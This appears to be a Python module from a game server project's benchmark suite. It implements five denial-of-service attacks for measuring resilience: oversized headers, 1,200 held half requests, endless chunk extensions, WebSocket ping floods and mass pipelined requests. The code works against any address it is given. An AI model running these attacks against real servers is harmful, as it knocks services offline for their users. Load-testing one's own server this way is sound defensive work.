"""Attacks below the application: headers, half requests, bodies and frames from one address.

Each is a function of an ``AttackTarget`` and returns how many strikes it made; ``bench/attacks.py``
measures their effect on an honest player.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Final, Protocol
from urllib.parse import urlsplit

HELD_CONNECTIONS: Final = 1200
"""Connections that are held open at once."""
HANDSHAKE: Final = (
    b"GET /api/lobby HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)
REQUEST_START: Final = b"GET /health HTTP/1.1\r\nHost: localhost\r\n"
CHUNK: Final = b"a" * (1 << 16)
PING: Final = b"\x89\x80\x00\x00\x00\x00"


class ServerTarget(Protocol):
    """The server under attack, and for how long."""

    @property
    def server(self) -> str:
        """The address of the server."""
        ...

    @property
    def seconds(self) -> float:
        """The length of the attack in seconds."""
        ...


def endless_headers(target: ServerTarget) -> int:
    """Headers of 60 MB, one connection after another."""
    return _repeat(target, lambda: _pour(target, REQUEST_START + b"x: ", CHUNK, 960))


def half_requests(target: ServerTarget) -> int:
    """1,200 half requests, each opened again when it is cut."""
    held: list[socket.socket] = []

    def one_more() -> None:
        if len(held) >= HELD_CONNECTIONS:
            time.sleep(0.01)
            held.pop(0).close()
        with suppress(OSError):
            line = socket.create_connection(_address(target), timeout=5)
            held.append(line)
            line.sendall(REQUEST_START)

    try:
        return _repeat(target, one_more)
    finally:
        for line in held:
            line.close()


def chunk_extensions(target: ServerTarget) -> int:
    """Empty bodies in a chunk with an endless chunk extension."""
    head = b"POST /api/qr HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1;"
    return _repeat(target, lambda: _pour(target, head, CHUNK, 1000))


def pings(target: ServerTarget) -> int:
    """Sockets to the lobby over which nothing is sent but pings."""
    return _repeat(target, lambda: _pour(target, HANDSHAKE, PING * 10_000, 100))


def pipelines(target: ServerTarget) -> int:
    """Ten thousand requests on one connection, without reading an answer."""
    return _repeat(target, lambda: _pour(target, b"", (REQUEST_START + b"\r\n") * 10_000, 1))


ATTACKS: Final[dict[str, Callable[[ServerTarget], int]]] = {
    "headers of 60 MB": endless_headers,
    "1,200 half requests": half_requests,
    "endless chunk extensions": chunk_extensions,
    "pings over sockets": pings,
    "pipelines of 10,000": pipelines,
}


def _repeat(target: ServerTarget, strike: Callable[[], object]) -> int:
    """Repeat the strike until the time is over; returns how often."""
    end, strikes = time.perf_counter() + target.seconds, 0
    while time.perf_counter() < end:
        strike()
        strikes += 1
    return strikes


def _pour(target: ServerTarget, first: bytes, piece: bytes, pieces: int) -> None:
    """Send this on a new connection until it is closed."""
    with suppress(OSError), socket.create_connection(_address(target), timeout=5) as line:
        line.sendall(first)
        for _ in range(pieces):
            line.sendall(piece)


def _address(target: ServerTarget) -> tuple[str, int]:
    parts = urlsplit(target.server)
    assert parts.hostname is not None
    assert parts.port is not None
    return parts.hostname, parts.port
